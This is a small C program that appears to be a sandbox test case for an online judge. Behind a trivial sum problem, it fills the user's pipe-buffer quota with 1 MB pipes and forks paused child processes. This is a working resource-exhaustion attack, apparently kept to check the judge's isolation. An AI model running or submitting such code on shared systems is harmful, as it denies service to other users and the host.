/*
 * attack: use up the pages of pipes that the uid may have
 * problem: twice
 * expect: Accepted
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/file.h>
#include <sys/mman.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static int room(void)
{
	int p[2];

	return pipe(p) == 0 && (fcntl(p[1], F_SETPIPE_SZ, 1 << 20) >= 0 || errno != EPERM);
}

int main(void)
{
	long a, b;

	scanf("%ld %ld", &a, &b);
	printf(!room() ? "found\n" : "%ld\n", a + b);
	fflush(stdout);
	for (int i = 0, p[2]; i < 40 && pipe(p) == 0; i++) {
		fcntl(p[1], F_SETPIPE_SZ, 1 << 20);
		if (fork() == 0)
			pause();
	}
	return 0;
}
